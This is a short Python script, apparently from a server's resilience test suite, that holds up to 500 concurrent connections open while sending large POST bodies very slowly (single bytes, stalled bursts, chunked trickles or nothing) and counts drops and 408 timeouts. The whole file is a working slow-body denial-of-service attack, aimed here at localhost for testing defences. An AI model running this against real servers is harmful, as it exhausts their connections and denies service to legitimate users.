#!/usr/bin/env python3
"""n clients announce large bodies and send them slowly: a byte at a time, in bursts with silence behind, chunked, or not at all."""

import contextlib
import random
import sys
import time

import attack

LENGTH = 8 << 20


def drip(server, n, seconds):
    """n slow bodies at once, of four kinds; those that are cut begin again."""
    rng, clients, cut, refused = random.Random(2), [None] * n, 0, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for i in range(n):
            if clients[i] is None:
                clients[i] = attack.connect(server)
                framing = "Transfer-Encoding: chunked" if i % 4 == 2 else f"Content-Length: {LENGTH}"
                clients[i].sendall(f"POST {attack.TEXT} HTTP/1.1\r\nHost: localhost\r\n{framing}\r\n\r\n".encode())
                clients[i].setblocking(False)
                if i % 4 == 1:
                    with contextlib.suppress(OSError):
                        clients[i].send(b" " * (256 << 10))
            try:
                with contextlib.suppress(BlockingIOError):
                    if i % 4 == 0:
                        clients[i].send(b" ")
                    elif i % 4 == 2:
                        clients[i].send(b"1\r\n \r\n")
                    if rng.random() < 0.2:
                        got = clients[i].recv(4096)
                        refused += b" 408 " in got
                        if not got:
                            raise ConnectionResetError
            except ConnectionError:
                clients[i].close()
                clients[i] = None
                cut += 1
        time.sleep(0.05)
    for c in clients:
        if c:
            c.close()
    return {"cut": cut, "status_408": refused}


if __name__ == "__main__":
    sys.exit(attack.main("slow_bodies", drip, 500, 60))
